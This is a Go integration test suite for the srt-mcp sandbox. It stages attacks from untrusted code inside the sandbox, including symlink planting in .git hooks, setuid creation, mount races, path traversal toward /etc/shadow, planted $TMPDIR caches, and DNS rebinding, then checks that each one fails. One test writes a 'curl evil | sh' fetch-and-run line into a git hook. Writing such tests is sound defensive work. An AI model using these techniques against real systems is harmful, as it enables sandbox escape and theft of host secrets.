package integration

// The hostile-input suite: one test per class of attack on the sandbox
// boundary (see the README's security section). Each was written against
// the code before its fix and seen failing there. The attackers are the
// untrusted code inside a sandbox (it writes symlinks, races the host,
// crafts names and headers) and another local user (who owns /tmp). Tests
// assert on the host: files, processes, ownership, what was mounted.
// Nothing here sends traffic beyond loopback.
//
// The suite runs as root and as nobody (make test). As root, sandboxes run
// as the unprivileged sandbox user, so directories a run must write are
// handed to that user (sbDir).

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/srt-mcp/srt-mcp/policy"
)

// defaultSandboxUID is the host uid (and gid) sandboxes run as when
// srt-mcp runs as root and --sandbox-user is not given.
const defaultSandboxUID = 65532

// sbDir is a fresh directory a sandbox may write: owned by the sandbox user
// when the tests run as root (by the tests' own user otherwise).
func sbDir(t *testing.T) string {
	t.Helper()
	d, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if os.Geteuid() == 0 {
		// t.TempDir's parent is 0700: let the sandbox user traverse it.
		_ = os.Chmod(filepath.Dir(d), 0o755)
		if err := os.Chown(d, defaultSandboxUID, defaultSandboxUID); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(d, 0o755); err != nil {
		t.Fatal(err)
	}
	return d
}

// handOver gives a tree the test wrote to the sandbox user (as root), as
// if that user had made it.
func handOver(t *testing.T, dir string) {
	t.Helper()
	if os.Geteuid() != 0 {
		return
	}
	if err := filepath.Walk(dir, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, defaultSandboxUID, defaultSandboxUID)
	}); err != nil {
		t.Fatal(err)
	}
}

// reachableTempDir is a fresh directory that the sandbox user can pass
// through (not list) when the tests run as root: a root server's sandboxes
// reach their workspaces under its state directory by path.
func reachableTempDir(t *testing.T) string {
	t.Helper()
	d := t.TempDir()
	// A server killed in a test leaves its workspaces' filesystems mounted
	// for the next server on its state directory; when there is none, the
	// test's cleanup unmounts them (before the directory's removal).
	t.Cleanup(func() { unmountUnder(d) })
	if os.Geteuid() == 0 {
		for _, p := range []string{filepath.Dir(d), d} {
			if err := os.Chmod(p, 0o711); err != nil {
				t.Fatal(err)
			}
		}
	}
	return d
}

// victimDir is a host directory outside every sandbox's policy, full of
// files that must survive.
func victimDir(t *testing.T) (string, map[string]string) {
	t.Helper()
	d := filepath.Join(t.TempDir(), "victim")
	write(t, filepath.Join(d, "keep.txt"), "precious")
	write(t, filepath.Join(d, "settings.json"), "{}")
	write(t, filepath.Join(d, "sub", "deep.txt"), "deep")
	return d, hostTree(t, d)
}

func violations(r nwResult) string {
	var b strings.Builder
	for _, e := range r.events {
		if v, ok := e["violation"].(map[string]any); ok {
			fmt.Fprintf(&b, "%v\n", v)
		}
	}
	return b.String()
}

// Class 2: host-side work on a sandbox-writable tree never follows a link.
// The post-run sweep used to enter a planted .git/hooks symlink and delete
// what it pointed to, read a .git/config symlink's target into the
// violation event, and delete a deny_write match through a symlinked
// parent.
func TestHostileSweepFollowsNoLink(t *testing.T) {
	t.Run("git-hooks-link", func(t *testing.T) {
		w := sbDir(t)
		victim, before := victimDir(t)
		r := sh(t, w, []string{"--allow-write", "."}, `mkdir -p .git && ln -s `+victim+` .git/hooks && ln -s `+victim+` .vscode && echo planted`)
		if !strings.Contains(r.stdout, "planted") {
			t.Fatalf("setup failed: %q %q", r.stdout, r.stderr)
		}
		sameTree(t, "the hooks link's target", before, hostTree(t, victim))
		for _, p := range []string{".git/hooks", ".vscode"} {
			if _, err := os.Lstat(filepath.Join(w, p)); err == nil {
				t.Errorf("the planted %s link is still in the workspace", p)
			}
		}
	})
	t.Run("git-config-link", func(t *testing.T) {
		w := sbDir(t)
		secret := filepath.Join(t.TempDir(), "secret.conf")
		write(t, secret, "[credential]\n\tTOPSECRETVALUE = hunter2\n")
		r := sh(t, w, []string{"--allow-write", "."}, `git init -q . 2>/dev/null || mkdir .git; rm -f .git/config; ln -s `+secret+` .git/config && test -L .git/config && echo planted`)
		if !strings.Contains(r.stdout, "planted") {
			t.Fatalf("setup failed: %q %q", r.stdout, r.stderr)
		}
		if v := violations(r); strings.Contains(strings.ToLower(v), "topsecret") || strings.Contains(v, "hunter2") {
			t.Errorf("the link target's content reached the event stream: %s", v)
		}
		if b, _ := os.ReadFile(secret); !strings.Contains(string(b), "hunter2") {
			t.Error("the link's target was changed")
		}
		if fi, err := os.Lstat(filepath.Join(w, ".git", "config")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
			t.Error("the planted .git/config link is still there")
		}
	})
	t.Run("deny-write-through-linked-parent", func(t *testing.T) {
		w := sbDir(t)
		victim, before := victimDir(t)
		r := sh(t, w, []string{"--allow-write", ".", "--deny-write", "conf/settings.json", "--deny-write", "conf/*.txt"},
			`ln -s `+victim+` conf && echo planted`)
		if !strings.Contains(r.stdout, "planted") {
			t.Fatalf("setup failed: %q %q", r.stdout, r.stderr)
		}
		sameTree(t, "the linked parent's target", before, hostTree(t, victim))
	})
}

// Class 5: deny rules hold against renaming a parent, in the same run and
// for the next one, and protected names are protected (or swept) at any
// depth.
func TestHostileDenyRulesSurviveRenames(t *testing.T) {
	t.Run("deny-write-parent-rename", func(t *testing.T) {
		w := sbDir(t)
		write(t, filepath.Join(w, "conf", "settings.json"), "original")
		r := sh(t, w, []string{"--allow-write", ".", "--deny-write", "conf/settings.json"},
			`(mv conf conf.old && mkdir conf && echo EVIL > conf/settings.json) 2>/dev/null && echo "REPLACED"; true`)
		if strings.Contains(r.stdout, "REPLACED") {
			t.Errorf("the run moved the deny_write file's parent away and wrote a new one: %q", r.stdout)
		}
		if b, _ := os.ReadFile(filepath.Join(w, "conf", "settings.json")); string(b) != "original" {
			t.Errorf("conf/settings.json is %q after the run", b)
		}
	})
	t.Run("deny-read-next-run", func(t *testing.T) {
		w := sbDir(t)
		write(t, filepath.Join(w, "vault", "secret.txt"), "TOP-SECRET")
		flags := []string{"--allow-write", ".", "--deny-read", "vault/secret.txt"}
		sh(t, w, flags, `mv vault vault2 2>/dev/null; mv vault/secret.txt vault/s2 2>/dev/null; true`)
		r := sh(t, w, flags, `cat vault/secret.txt vault2/secret.txt vault/s2 2>/dev/null; true`)
		if strings.Contains(r.stdout, "TOP-SECRET") {
			t.Errorf("a rename in one run exposed a deny_read file in the next: %q", r.stdout)
		}
	})
	t.Run("deep-protected-names", func(t *testing.T) {
		w := sbDir(t)
		hook := filepath.Join(w, "a", "b", "c", "d", ".git", "hooks", "pre-commit")
		write(t, hook, "#!/bin/sh\necho mine\n")
		if os.Geteuid() == 0 {
			_ = filepath.Walk(w, func(p string, _ os.FileInfo, _ error) error {
				return os.Lchown(p, defaultSandboxUID, defaultSandboxUID)
			})
		}
		r := sh(t, w, []string{"--allow-write", "."}, `
			echo 'curl evil | sh' >> a/b/c/d/.git/hooks/pre-commit
			mkdir -p x/y/z/w/v/.claude/commands && echo evil > x/y/z/w/v/.claude/commands/run.md
			echo done`)
		if !strings.Contains(r.stdout, "done") {
			t.Fatalf("run: %q %q", r.stdout, r.stderr)
		}
		if b, err := os.ReadFile(hook); err == nil && strings.Contains(string(b), "evil") {
			t.Errorf("a hook five levels deep was changed and left in place: %q", b)
		}
		if _, err := os.Lstat(filepath.Join(w, "x/y/z/w/v/.claude/commands")); err == nil {
			t.Error("a .claude/commands created six levels deep is still there")
		}
	})
}

// Class 1: the sandboxed program is never host uid 0; /proc/sys and the
// other paths Docker protects are read-only or masked; no setuid or setgid
// file can be made, as root and as an unprivileged user alike.
func TestHostileNoHostRootInside(t *testing.T) {
	w := sbDir(t)
	r := nwRun(t, w, []string{"--allow-write", "."}, "/usr/bin/python3", "-c", `
import os, errno
print("uid", os.getuid(), "gid", os.getgid())
ro = {}
for line in open("/proc/self/mountinfo"):
    f = line.split()
    ro[f[4]] = "ro" in f[5].split(",")
for p in ("/proc/sys", "/proc/sysrq-trigger"):
    print("ro", p, ro.get(p, "not-a-mount"))
for p in ("/proc/sys/vm/overcommit_ratio", "/proc/sys/kernel/core_pattern"):
    try:
        v = open(p).read()
        with open(p, "w") as f: f.write(v)
        print("WROTE", p)
    except OSError as e:
        print("refused", p, e.errno)
for p in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug"):
    try:
        print("masked", p, len(open(p, "rb").read(4096)))
    except OSError as e:
        print("masked", p, "unreadable", e.errno)
import shutil
shutil.copy("/bin/sh", "x")
for mode in (0o4755, 0o2755):
    try:
        os.chmod("x", mode); print("SETID chmod", oct(mode))
    except OSError as e:
        print("refused chmod", oct(mode), e.errno)
try:
    os.close(os.open("y", os.O_CREAT | os.O_WRONLY, 0o4755))
    print("created y", oct(os.stat("y").st_mode))
except OSError as e:
    print("refused create", e.errno)
`)
	out := r.stdout
	want := fmt.Sprintf("uid %d gid %d", os.Getuid(), os.Getgid())
	if os.Geteuid() == 0 {
		want = fmt.Sprintf("uid %d gid %d", defaultSandboxUID, defaultSandboxUID)
	}
	if !strings.Contains(out, want) {
		t.Errorf("the sandbox's identity: want %q in %q (stderr %q)", want, out, r.stderr)
	}
	for _, bad := range []string{"WROTE", "SETID", "ro /proc/sys False", "ro /proc/sys not-a-mount"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s: %s", bad, out)
		}
	}
	if strings.Contains(out, "created y 0o104") {
		t.Errorf("a setuid file was created: %s", out)
	}
	for _, p := range []string{"kcore", "keys", "timer_list", "sched_debug"} {
		if _, err := os.Stat("/proc/" + p); err == nil && !strings.Contains(out, "masked /proc/"+p+" 0") && !strings.Contains(out, "masked /proc/"+p+" unreadable") {
			t.Errorf("/proc/%s is readable in the sandbox: %s", p, out)
		}
	}
	for _, f := range []string{"x", "y"} {
		if fi, err := os.Stat(filepath.Join(w, f)); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			t.Errorf("%s is %v on the host", f, fi.Mode())
		}
	}
}

// Class 7: a datagram socket pair cannot send to a host unix socket by
// path (the AF_UNIX block used to stop only socket(), not socketpair()).
func TestHostileNoDatagramToHostSockets(t *testing.T) {
	dir := sbDir(t)
	path := filepath.Join(dir, "host.dgram")
	conn, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = os.Chmod(path, 0o777)
	got := make(chan string, 1)
	go func() {
		buf := make([]byte, 100)
		if n, _, err := conn.ReadFrom(buf); err == nil {
			got <- string(buf[:n])
		}
	}()
	r := nwRun(t, dir, []string{"--allow-read", dir}, "/usr/bin/python3", "-c", `
import socket
try:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    a.sendto(b"ESCAPED", "`+path+`")
    print("SENT")
except OSError as e:
    print("refused", e.errno)
`)
	if strings.Contains(r.stdout, "SENT") {
		t.Errorf("the sandbox sent a datagram by path: %q", r.stdout)
	}
	select {
	case m := <-got:
		t.Fatalf("a host datagram socket received %q from the sandbox", m)
	case <-time.After(300 * time.Millisecond):
	}
}

// Class 3: what is mounted is what was checked. A concurrent run swaps an
// allowed subdirectory for a symlink to a directory outside the policy,
// over and over, while runs that may write only that subdirectory start.
// No write may land outside.
func TestHostileMountRace(t *testing.T) {
	w := sbDir(t)
	outside := sbDir(t)
	if err := os.Mkdir(filepath.Join(w, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if os.Geteuid() == 0 {
		_ = os.Chown(filepath.Join(w, "sub"), defaultSandboxUID, defaultSandboxUID)
	}
	stop := filepath.Join(w, "stop")
	swapper := exec.Command(nwBin(t), "exec", "--cwd", w, "--allow-write", w, "--timeout", "60s", "--", "/bin/bash", "-c", `
		while [ ! -e `+stop+` ]; do
			mv sub sub.real 2>/dev/null; ln -s `+outside+` sub 2>/dev/null
			rm -f sub 2>/dev/null; mv sub.real sub 2>/dev/null
		done`)
	if err := swapper.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = os.WriteFile(stop, nil, 0o644)
		_ = swapper.Wait()
	}()
	deadline := time.Now().Add(8 * time.Second)
	for i := 0; i < 60 && time.Now().Before(deadline); i++ {
		cmd := exec.Command(nwBin(t), "exec", "--cwd", w, "--allow-write", filepath.Join(w, "sub"), "--", "/bin/sh", "-c",
			fmt.Sprintf(`echo pwned > %s/sub/owned-%d 2>/dev/null; ls %s/sub >/dev/null 2>&1`, w, i, w))
		_ = cmd.Run()
		ents, _ := os.ReadDir(outside)
		if len(ents) > 0 {
			t.Fatalf("try %d: a run mounted the directory outside its policy read-write and wrote %s", i, ents[0].Name())
		}
	}
}

// Class 4: a path is cleaned before it is checked. working_directory
// "/tmp/../etc" used to pass the /tmp check and make /etc readable.
func TestHostileWorkingDirectoryTraversal(t *testing.T) {
	s := startServe(t)
	c := connect(t, s.url)
	for _, wd := range []string{"/tmp/../etc", "/tmp/./../root", "/tmp/x/../../etc"} {
		res, isErr := callTool(t, c, "execute_code", map[string]any{"command": "pwd; ls | head -3; cat shadow passwd 2>&1 | head -2", "working_directory": wd})
		out := fmt.Sprint(res)
		if !isErr || strings.Contains(out, "root:") {
			t.Errorf("working_directory %q was accepted: %s", wd, out)
		}
	}
}

// Class 6: nothing in a shared, world-writable place is trusted. As root,
// another user's directory in $TMPDIR used to choose the /etc every
// sandbox sees, and the binary srt-mcp serve runs.
func TestHostileSharedTmpNotTrusted(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the attacker is another local user: needs root to stage")
	}
	shared := func() string {
		d := t.TempDir()
		_ = os.Chmod(filepath.Dir(d), 0o755)
		_ = os.Chmod(d, 0o1777)
		return d
	}
	// What does srt-mcp itself leave in $TMPDIR? Nothing, ideally; each
	// file it does leave is a name an attacker can plant first.
	clean := shared()
	serve := func(tmp string) {
		cmd := exec.Command(nwBin(t), "serve", "--stdio", "--warm-pool", "0", "--state-dir", filepath.Join(t.TempDir(), "state"))
		cmd.Env = append(os.Environ(), "TMPDIR="+tmp)
		cmd.Stdin = strings.NewReader("")
		_ = cmd.Run()
		cmd = exec.Command(nwBin(t), "exec", "--", "/bin/true")
		cmd.Env = append(os.Environ(), "TMPDIR="+tmp)
		_ = cmd.Run()
	}
	serve(clean)
	type leftover struct {
		rel  string
		size int64
	}
	var left []leftover
	_ = filepath.Walk(clean, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			rel, _ := filepath.Rel(clean, p)
			left = append(left, leftover{rel, fi.Size()})
		}
		return nil
	})
	if ents, _ := os.ReadDir(clean); len(ents) > 0 {
		t.Errorf("srt-mcp left %s (%d files) in the shared $TMPDIR", ents[0].Name(), len(left))
	}

	// The attacker (uid 65534) plants a cache whose manifest names their
	// own /etc, and a same-size script at every file name srt-mcp used.
	tmp := shared()
	planted := filepath.Join(tmp, fmt.Sprintf("srt-mcp-%d", os.Getuid()))
	evil := filepath.Join(planted, "etc-evil")
	write(t, filepath.Join(evil, "passwd"), "EVILUSER:x:0:0::/:/bin/sh\n")
	write(t, filepath.Join(evil, ".srt-mcp-complete"), "")
	manifest, _ := json.Marshal(map[string]any{"dir": evil, "entries": policy.SystemEtc, "states": []any{}})
	write(t, filepath.Join(planted, "etc-current.json"), string(manifest))
	marker := filepath.Join(tmp, "RAN-PLANTED-SERVER")
	for _, l := range left {
		if l.size > 32 && !strings.Contains(l.rel, "etc-") {
			script := "#!/bin/sh\ntouch " + marker + "\n"
			body := []byte(script + strings.Repeat("#", int(l.size)-len(script)))
			write(t, filepath.Join(tmp, l.rel), string(body))
			_ = os.Chmod(filepath.Join(tmp, l.rel), 0o755)
		}
	}
	_ = filepath.Walk(planted, func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, 65534, 65534) })
	cmd := exec.Command(nwBin(t), "exec", "--", "/bin/cat", "/etc/passwd")
	cmd.Env = append(os.Environ(), "TMPDIR="+tmp)
	out, _ := cmd.CombinedOutput()
	if strings.Contains(string(out), "EVILUSER") {
		t.Errorf("another user's cache in $TMPDIR chose the sandbox's /etc: %s", out)
	}
	serve(tmp)
	if _, err := os.Stat(marker); err == nil {
		t.Error("srt-mcp serve ran a binary another user planted in $TMPDIR")
	}
}

// Class 9: nothing inside tells the next attack where srt-mcp keeps its
// state or binary: no host path of srt-mcp's own in /proc/self/mountinfo
// or on PID 1's command line, no session or instance id.
func TestHostileNoHostFactsInside(t *testing.T) {
	bin, _ := filepath.EvalSymlinks(nwBin(t))
	w := sbDir(t)
	r := sh(t, w, []string{"--allow-write", "."}, `cat /proc/self/mountinfo; tr '\0' ' ' < /proc/1/cmdline; echo; ls -la /proc/self/fd/ 2>&1`)
	inside := r.stdout
	for _, leak := range []string{bin, fmt.Sprintf("srt-mcp-%d/", os.Getuid()), "srt-mcp/init"} {
		if strings.Contains(inside, leak) {
			t.Errorf("the sandbox sees %q:\n%s", leak, inside)
		}
	}
	// Through the server: a session's own id and the instance's do not
	// show either.
	d := startData(t, []string{"--backend", "native"})
	res, _ := d.call("execute_code", map[string]any{"command": "cat /proc/self/mountinfo; tr '\\0' ' ' < /proc/1/cmdline", "session_id": "sess_0123456789ab"})
	out := fmt.Sprint(res)
	if !strings.Contains(out, " /mnt/data ") || fmt.Sprint(res["exit_code"]) != "0" {
		t.Fatalf("the session's run did not show its mounts: %s", out)
	}
	insts, _ := os.ReadDir(filepath.Join(d.state, "sessions"))
	leaks := []string{"sess_0123456789ab", bin}
	for _, i := range insts {
		leaks = append(leaks, i.Name())
	}
	for _, leak := range leaks {
		if strings.Contains(out, leak) {
			t.Errorf("a session's sandbox sees %q:\n%s", leak, out)
		}
	}
}

// Class 8: network decisions hold for the address a name resolves to: a
// denied IP is denied when an allowed name resolves to it, and the
// rebinding guard sees loopback inside every IPv6 form that embeds IPv4.
func TestHostileNetworkDecisionsOnAddresses(t *testing.T) {
	nwRequire(t, "curl")
	srv := nwStart(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "reached") }), false)
	cwd := sbDir(t)
	get := func(flags []string, host string) nwResult {
		return nwRun(t, cwd, flags, "curl", "-sS", "-o", "/dev/stdout", "-w", "\n%{http_code}", "http://"+host+":"+srv.port+"/")
	}
	before := srv.hits.Load()
	// deny 127.0.0.1, allow a name that resolves to it.
	r := get([]string{"--allow-domain", "evil.test", "--deny-domain", "127.0.0.1", "--resolve", "evil.test=127.0.0.1", "--allow-ip-range", "127.0.0.0/8"}, "evil.test")
	if strings.Contains(r.stdout, "reached") || !r.hasDecision("deny evil.test") {
		t.Errorf("a name resolving to a denied address was allowed: %q %v", r.stdout, r.netDecisions())
	}
	// Loopback embedded in IPv6 forms: SIIT (RFC 6145), Teredo (RFC 4380,
	// client 127.0.0.1 stored inverted), NAT64 local-use (RFC 8215),
	// IPv4-compatible. The guard must refuse each by itself.
	for _, a := range []string{"::ffff:0:7f00:1", "2001:0:4136:e378:8000:63bf:80ff:fffe", "64:ff9b:1::7f00:1", "::7f00:1"} {
		r := get([]string{"--allow-domain", "evil.test", "--resolve", "evil.test=" + a}, "evil.test")
		found := false
		for _, e := range r.events {
			if v, ok := e["violation"].(map[string]any); ok && v["decision"] == "deny" && strings.Contains(fmt.Sprint(v["rule"]), "rebinding") {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: the rebinding guard did not refuse it: %v %q", a, r.netDecisions(), r.stdout)
		}
	}
	if srv.hits.Load() != before {
		t.Error("a refused request reached the server")
	}
}

// Class 2 through the tools, on both backends: links, FIFOs and deep
// trees a run leaves in its workspace never carry a later read, download,
// upload or listing anywhere, and closing the session removes all of it.
func TestHostileWorkspaceLinks(t *testing.T) { forEachBackend(t, testHostileWorkspaceLinks) }

func testHostileWorkspaceLinks(t *testing.T, backend []string) {
	d := startData(t, backend)
	sid := d.upload("", "ok.txt", "ok")
	v := d.python(sid, `
import os
os.symlink("/etc/passwd", "leak.txt")
os.symlink("/", "root")
os.symlink(".", "here")
os.symlink("ok.txt", "alias.txt")
os.mkfifo("pipe")
os.makedirs("deep", exist_ok=True)
fd = os.open("deep", os.O_RDONLY)
for i in range(2000):
    os.mkdir("d", dir_fd=fd)
    nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
print("planted")
`)
	if !strings.Contains(fmt.Sprint(v["stdout"]), "planted") {
		t.Fatalf("setup: %v", v)
	}
	inc := d.incarnation(sid)
	for _, p := range []string{"leak.txt", "root/etc/passwd", "here/ok.txt", "alias.txt"} {
		res, isErr := d.call("read_artifact", map[string]any{"session_id": sid, "path": "/mnt/data/" + p})
		if !isErr || strings.Contains(fmt.Sprint(res), "root:") {
			t.Errorf("read_artifact %s followed a link: %v", p, res)
		}
		code, _, body := httpGet(t, signedURL(d.base(), sid, inc, p, time.Now().Add(time.Hour).Unix()))
		if code == 200 || strings.Contains(string(body), "root:") {
			t.Errorf("download of %s followed a link: %d %q", p, code, body)
		}
	}
	done := make(chan bool, 1)
	go func() {
		_, isErr := d.call("read_artifact", map[string]any{"session_id": sid, "path": "/mnt/data/pipe"})
		done <- isErr
	}()
	select {
	case isErr := <-done:
		if !isErr {
			t.Error("read_artifact of a FIFO succeeded")
		}
	case <-time.After(10 * time.Second):
		t.Fatal("read_artifact of a FIFO hangs")
	}
	before, _ := os.ReadFile("/etc/passwd")
	for _, p := range []string{"here/x.txt", "leak.txt", "root/tmp/pwned"} {
		res, isErr := d.call("upload_file", map[string]any{"session_id": sid, "filename": p, "content_base64": "cHduZWQ=", "overwrite": true})
		if !isErr {
			t.Errorf("upload_file %s went through a link: %v", p, res)
		}
	}
	if after, _ := os.ReadFile("/etc/passwd"); string(after) != string(before) {
		t.Fatal("an upload changed /etc/passwd")
	}
	if _, err := os.Stat("/tmp/pwned"); err == nil {
		t.Error("an upload landed in the host's /tmp")
	}
	res, _ := d.call("list_artifacts", map[string]any{"session_id": sid})
	if names := fmt.Sprint(res); strings.Contains(names, "leak.txt") || strings.Contains(names, "alias.txt") || strings.Contains(names, "passwd") {
		t.Errorf("list_artifacts shows links: %v", res)
	}
	if res, isErr := d.call("close_session", map[string]any{"session_id": sid}); isErr {
		t.Fatalf("close_session: %v", res)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		ents := workspaceDirs(d.state)
		if len(ents) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the closed session's workspace (a 2000-deep tree) is still there: %v", ents)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// workspaceDirs lists the workspaces of a state directory (not the
// servers' shared cache template).
func workspaceDirs(state string) []string {
	ents, _ := os.ReadDir(filepath.Join(state, "workspaces"))
	var out []string
	for _, e := range ents {
		// Not sessions: the cache template, the scratch directory of its
		// build, which the server starts at its start and removes when the
		// build ends (on a loaded machine it may still run here), and the
		// filesystems ready for the next sessions.
		if !strings.HasPrefix(e.Name(), ".cache-template") && !strings.HasPrefix(e.Name(), "cache-build-") && !strings.HasPrefix(e.Name(), "ready-") {
			out = append(out, e.Name())
		}
	}
	return out
}

// unmountUnder lazily unmounts every mount point under dir (as root).
func unmountUnder(dir string) {
	const mntDetach = 2 // MNT_DETACH, Linux's
	if os.Geteuid() != 0 || runtime.GOOS != "linux" {
		return
	}
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return
	}
	lines := strings.Split(string(b), "\n")
	for i := len(lines) - 1; i >= 0; i-- { // the deepest (latest) first
		if f := strings.Fields(lines[i]); len(f) > 4 && strings.HasPrefix(f[4], dir+"/") {
			_ = syscall.Unmount(f[4], mntDetach)
		}
	}
}
